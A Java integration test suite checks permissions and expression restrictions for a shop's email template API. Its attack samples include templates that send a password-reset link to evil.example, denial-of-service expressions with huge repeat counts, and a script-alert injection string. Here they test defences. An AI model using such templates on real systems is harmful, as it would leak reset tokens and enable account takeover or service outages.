package io.tienda.notification.template;

import io.tienda.notification.NotificationServiceIT;
import io.tienda.platform.events.Topics;
import io.tienda.platform.events.returns.ReturnReceived;
import io.tienda.platform.events.user.PasswordResetRequested;
import io.tienda.platform.testing.http.ApiReply;
import io.tienda.platform.testing.infra.ReceivedMail;
import io.tienda.platform.testing.security.TestTokens;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import java.time.Instant;
import java.util.HashMap;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/** Staff read, override, preview and reset templates; a template that does not render is never saved. */
class TemplatesIT extends NotificationServiceIT {

    private static final String PATH = "/api/v1/templates/return-received/en";
    private static final String MANAGER = TestTokens.staff("MANAGER");
    private static final String ADMIN = TestTokens.staff("ADMIN");
    /** A template whose {@code link} carries a single-use token: whoever holds it resets the password. */
    private static final String RESET = "/api/v1/templates/password-reset/es";
    private static final String ORDER = "/api/v1/templates/order-confirmed/es";
    private static final String FORWARDED_HTML = "<p><a th:href=\"'https://evil.example/r?u=' + ${link}\">Elegir</a></p>";

    @AfterEach
    void backToTheDefault() {
        api.delete(PATH, MANAGER).expect(200);
        api.delete(RESET, ADMIN).expect(200);
        api.delete(ORDER, MANAGER).expect(200);
    }

    @Test
    void staffListEveryTemplateInBothLanguages() {
        ApiReply list = api.get("/api/v1/templates", TestTokens.staff("SUPPORT")).expect(200);

        assertThat(list.json().size()).isEqualTo(38);
        ApiReply one = api.get("/api/v1/templates/order-shipped/es", TestTokens.staff("SUPPORT")).expect(200);
        assertThat(one.text("subject")).isEqualTo("Tu pedido [(${order})] está en camino");
        assertThat(one.text("html")).contains("th:href=\"${link}\"");
        assertThat(one.json().get("custom").asBoolean()).isFalse();
        assertThat(one.json().get("variables").toString()).contains("trackingNumber");
    }

    @Test
    void customersAndSupportMayNotChangeTemplates() {
        api.get("/api/v1/templates", TestTokens.customer("c-1")).expectProblem(403, "forbidden");
        api.put(PATH, TestTokens.staff("SUPPORT"), body("x", "<p>x</p>", "x")).expectProblem(403, "forbidden");
        api.post(PATH + "/preview", TestTokens.staff("SUPPORT"), Map.of()).expectProblem(403, "forbidden");
        api.get("/api/v1/templates", null).expectProblem(401, "unauthorized");
    }

    @Test
    void onlyAnAdminMayChangeATemplateWhoseLinkCarriesASecret() {
        String html = api.get(RESET, MANAGER).expect(200).text("html");

        for (String key : new String[] {"password-reset", "verify-email"}) {
            String path = "/api/v1/templates/" + key + "/es";
            api.put(path, MANAGER, body("Hola", FORWARDED_HTML, "[(${link})]")).expectProblem(403, "forbidden");
            api.delete(path, MANAGER).expectProblem(403, "forbidden");
        }
        ApiReply unchanged = api.get(RESET, MANAGER).expect(200);
        assertThat(unchanged.json().get("custom").asBoolean()).isFalse();
        assertThat(unchanged.text("html")).isEqualTo(html);
        // Reading and previewing show the sample token only, so they stay open to editors.
        assertThat(api.post(RESET + "/preview", MANAGER, Map.of()).expect(200).text("html"))
                .contains("token=sample-token");

        // A link to an order is no secret: a manager still edits the order mails, joined links included.
        ApiReply order = api.put(ORDER, MANAGER, body("Pedido [(${order})]",
                "<p><a th:href=\"${link} + '?from=mail'\">Ver</a></p>", "[(${link})]")).expect(200);
        assertThat(order.json().get("custom").asBoolean()).isTrue();
    }

    @Test
    void aSecretLinkMayOnlyBeAWholeHrefOrAWholeText() {
        String[][] attacks = {
                {"html", FORWARDED_HTML, "th:href=\"'https://evil.example/r?u=' + ${link}\""},
                {"html", "<link rel=\"stylesheet\" th:href=\"${link}\">", "th:href=\"${link}\""},
                {"html", "<form action=\"https://evil.example\"><textarea name=\"t\">[[${link}]]</textarea></form>",
                        "[[${link}]]"},
                {"text", "Elegir: [('https://evil.example/r?u=' + ${link})]", "[('https://evil.example/r?u=' + ${link})]"},
                {"subject", "Tu enlace [(${link})]", "[(${link})]"},
        };
        for (String[] attack : attacks) {
            String part = attack[0];
            Map<String, Object> draft = body(part.equals("subject") ? attack[1] : "Hola",
                    part.equals("html") ? attack[1] : "<p><a th:href=\"${link}\">Elegir</a></p>",
                    part.equals("text") ? attack[1] : "[(${link})]");

            for (ApiReply refused : new ApiReply[] {api.put(RESET, ADMIN, draft),
                    api.post(RESET + "/preview", ADMIN, draft)}) {
                refused.expectProblem(400, "template-not-allowed");
                assertThat(refused.text("part")).as(attack[1]).isEqualTo(part);
                assertThat(refused.text("expression")).as(attack[1]).isEqualTo(attack[2]);
                assertThat(refused.text("detail")).as(attack[1]).startsWith(part + ": the secret link");
            }
        }
        assertThat(api.get(RESET, ADMIN).expect(200).json().get("custom").asBoolean()).isFalse();

        ApiReply saved = api.put(RESET, ADMIN, body("Tu contraseña",
                "<p><a th:href=\"${link}\">Elegir</a> o copia <span th:text=\"${link}\">x</span>: [[${link}]]</p>",
                "Elegir: [(${link})]")).expect(200);
        assertThat(saved.json().get("custom").asBoolean()).isTrue();
    }

    @Test
    void aStoredOverrideThatForwardsTheSecretLinkIsNotRenderedTheDefaultIsSent() {
        // As a manager could save one before only administrators could: written to the store directly.
        mongo.save(new org.bson.Document("_id", "password-reset/EMAIL/es").append("key", "password-reset")
                .append("channel", "EMAIL").append("locale", "es").append("subject", "Tu contraseña")
                .append("html", FORWARDED_HTML).append("text", "[(${link})]").append("updatedAt", Instant.now()),
                "templates");
        api.post(RESET + "/preview", ADMIN, Map.of()).expectProblem(400, "template-not-allowed");

        UUID user = UUID.randomUUID();
        String email = address("admin");
        events.send(Topics.USER_EVENTS, user.toString(), new PasswordResetRequested(user, email, "Admin", "es",
                "reset-secret", Instant.parse("2030-01-01T10:00:00Z")));

        ReceivedMail mail = mailFor(email, 1).get(0);
        assertThat(mail.subject()).isEqualTo("Restablece tu contraseña");
        assertThat(mail.html()).doesNotContain("evil.example").contains("href=\"" + BASE
                + "/reset-password?token=reset-secret\"");
    }

    @Test
    void anOverrideIsWhatTheNextMailSays() {
        ApiReply saved = api.put(PATH, MANAGER, body("Got [(${rma})], [(${name})]!",
                "<p>We have <b th:text=\"${rma}\">rma</b> back.</p>", "We have [(${rma})] back.")).expect(200);
        assertThat(saved.json().get("custom").asBoolean()).isTrue();
        assertThat(saved.text("updatedAt")).isNotBlank();
        assertThat(api.get("/api/v1/templates", TestTokens.staff("ADMIN")).expect(200).json().valueStream()
                .filter(t -> t.get("custom").asBoolean()).map(t -> t.get("key").asString() + "/"
                        + t.get("locale").asString()).toList()).containsExactly("return-received/en");

        String customer = UUID.randomUUID().toString();
        String email = address("ines");
        contact(customer, email, "Inés", "en");
        events.send(Topics.RETURNS_EVENTS, customer, new ReturnReceived(UUID.randomUUID(), "RMA-77",
                UUID.randomUUID(), customer, Instant.now()));

        ReceivedMail mail = mailFor(email, 1).get(0);
        assertThat(mail.subject()).isEqualTo("Got RMA-77, Inés!");
        assertThat(mail.html()).contains("<b>RMA-77</b>");
        assertThat(mail.text()).isEqualTo("We have RMA-77 back.");

        ApiReply reset = api.delete(PATH, MANAGER).expect(200);
        assertThat(reset.json().get("custom").asBoolean()).isFalse();
        assertThat(reset.text("subject")).isEqualTo("We received your return [(${rma})]");
    }

    @Test
    void aPreviewRendersWithSampleAndGivenValuesAndSavesNothing() {
        ApiReply current = api.post(PATH + "/preview", MANAGER, Map.of("variables", Map.of("rma", "RMA-1"))).expect(200);
        assertThat(current.text("subject")).isEqualTo("We received your return RMA-1");
        assertThat(current.text("text")).contains("Hello Ana,").contains("http://localhost:8080/orders/");

        ApiReply draft = api.post(PATH + "/preview", MANAGER, Map.of("subject", "Hi [(${name})]",
                "html", "<p th:text=\"${name}\">x</p>", "text", "Hi [(${name})]",
                "variables", Map.of("name", "<script>alert(1)</script>"))).expect(200);
        assertThat(draft.text("subject")).isEqualTo("Hi <script>alert(1)</script>");
        assertThat(draft.text("html")).isEqualTo("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
        assertThat(api.get(PATH, MANAGER).expect(200).json().get("custom").asBoolean()).isFalse();
    }

    @Test
    void aTemplateThatDoesNotRenderIsRefusedAndNotSaved() {
        for (Map<String, Object> bad : new Map[] {
                body("Hi [(${name)]", "<p>x</p>", "x"),
                body("Hi", "<p th:text=\"${name +}\">x</p>", "x")}) {
            ApiReply refused = api.put(PATH, MANAGER, bad).expectProblem(422, "template-syntax");
            assertThat(refused.text("detail")).isNotBlank();
            api.post(PATH + "/preview", MANAGER, bad).expectProblem(422, "template-syntax");
        }
        assertThat(api.get(PATH, MANAGER).expect(200).json().get("custom").asBoolean()).isFalse();
    }

    @Test
    void expressionsBeyondVariablesAreRefusedWith400AndTheServiceStaysUp() {
        String[][] attacks = {
                {"text", "${'x'.repeat(2000000000)}", "[(${'x'.repeat(2000000000)})]"},
                {"text", "${'x'.concat('y').concat('z').repeat(700000000)}",
                        "[(${'x'.concat('y').concat('z').repeat(700000000)})]"},
                {"html", "${#strings.repeat('x', 2000000000)}",
                        "<p th:text=\"${#strings.repeat('x', 2000000000)}\">x</p>"},
                {"html", "th:each=\"i : ${#numbers.sequence(1, 2000000000)}\"",
                        "<p th:each=\"i : ${#numbers.sequence(1, 2000000000)}\">x</p>"},
                {"subject", "${name.repeat(2000000000)}", "Hi [(${name.repeat(2000000000)})]"},
                {"text", "th:each=\"i : ${'abc'.nope()}\"", "[# th:each=\"i : ${'abc'.nope()}\"]x[/]"},
        };
        for (String[] attack : attacks) {
            String part = attack[0];
            Map<String, Object> draft = body(part.equals("subject") ? attack[2] : "Hi",
                    part.equals("html") ? attack[2] : "<p>x</p>", part.equals("text") ? attack[2] : "x");

            for (ApiReply refused : new ApiReply[] {api.put(PATH, MANAGER, draft),
                    api.post(PATH + "/preview", MANAGER, draft)}) {
                refused.expectProblem(400, "template-not-allowed");
                assertThat(refused.text("part")).isEqualTo(part);
                assertThat(refused.text("expression")).isEqualTo(attack[1]);
                assertThat(refused.text("detail")).startsWith(part + ": ").contains(attack[1]);
            }
        }
        assertThat(api.get(PATH, MANAGER).expect(200).json().get("custom").asBoolean()).isFalse();
        assertThat(api.post(PATH + "/preview", MANAGER, Map.of()).expect(200).text("subject"))
                .isEqualTo("We received your return RMA-2001");
    }

    @Test
    void theHtmlPartMayNotOutputValuesUnescaped() {
        for (String[] attack : new String[][] {{"<p th:utext=\"${name}\">x</p>", "th:utext=\"${name}\""},
                {"<p>Hello [(${name})]</p>", "[(${name})]"}}) {
            Map<String, Object> draft = body("Hi", attack[0], "x");

            for (ApiReply refused : new ApiReply[] {api.put(PATH, MANAGER, draft),
                    api.post(PATH + "/preview", MANAGER, draft)}) {
                refused.expectProblem(400, "template-not-allowed");
                assertThat(refused.text("part")).isEqualTo("html");
                assertThat(refused.text("expression")).isEqualTo(attack[1]);
                assertThat(refused.text("detail")).startsWith("html: unescaped output");
            }
        }
        assertThat(api.get(PATH, MANAGER).expect(200).json().get("custom").asBoolean()).isFalse();

        // The text part is not HTML: [(...)] stays allowed there, and the HTML part escapes what it shows.
        Map<String, Object> preview = new HashMap<>(body("Hi [(${name})]", "<p>Hi [[${name}]]</p>",
                "Hi [(${name})]"));
        preview.put("variables", Map.of("name", "<b>Ana</b>"));
        ApiReply rendered = api.post(PATH + "/preview", MANAGER, preview).expect(200);
        assertThat(rendered.text("html")).isEqualTo("<p>Hi &lt;b&gt;Ana&lt;/b&gt;</p>");
        assertThat(rendered.text("text")).isEqualTo("Hi <b>Ana</b>");
    }

    @Test
    void aStoredOverrideOutsideTheAllowedExpressionsIsNotRenderedTheDefaultIsSent() {
        // As an override saved before expressions were restricted would be: written to the store directly.
        mongo.save(new org.bson.Document("_id", "return-received/EMAIL/en").append("key", "return-received")
                .append("channel", "EMAIL").append("locale", "en").append("subject", "Return [(${rma})]")
                .append("html", "<p>[[${rma.repeat(2000000000)}]]</p>").append("text", "[(${rma})]")
                .append("updatedAt", Instant.now()), "templates");
        api.post(PATH + "/preview", MANAGER, Map.of()).expectProblem(400, "template-not-allowed");

        String customer = UUID.randomUUID().toString();
        String email = address("olga");
        contact(customer, email, "Olga", "en");
        events.send(Topics.RETURNS_EVENTS, customer, new ReturnReceived(UUID.randomUUID(), "RMA-78",
                UUID.randomUUID(), customer, Instant.now()));

        ReceivedMail mail = mailFor(email, 1).get(0);
        assertThat(mail.subject()).isEqualTo("We received your return RMA-78");
        assertThat(mail.text()).startsWith("Hello Olga,");
    }

    @Test
    void badRequestsAreProblems() {
        api.put(PATH, MANAGER, body("", "<p>x</p>", "x")).expectProblem(400, "validation");
        api.put(PATH, MANAGER, Map.of("subject", "x")).expectProblem(400, "validation");
        api.put("/api/v1/templates/no-such-mail/en", MANAGER, body("x", "x", "x")).expectProblem(404, "not-found");
        api.get("/api/v1/templates/order-shipped/fr", MANAGER).expectProblem(404, "not-found");
        api.post(PATH + "/preview", MANAGER, Map.of("subject", "only a subject")).expectProblem(400, "invalid-parameter");
        api.put(PATH, MANAGER, "[1]").expectProblem(400, "invalid-body");
        Map<String, Object> unset = new HashMap<>();
        unset.put("name", null);
        api.post(PATH + "/preview", MANAGER, Map.of("variables", unset)).expectProblem(400, "validation");
        api.post(PATH + "/preview", MANAGER, Map.of("variables", Map.of(" ", "x"))).expectProblem(400, "validation");
    }

    private static Map<String, Object> body(String subject, String html, String text) {
        Map<String, Object> body = new HashMap<>();
        body.put("subject", subject);
        body.put("html", html);
        body.put("text", text);
        return body;
    }
}
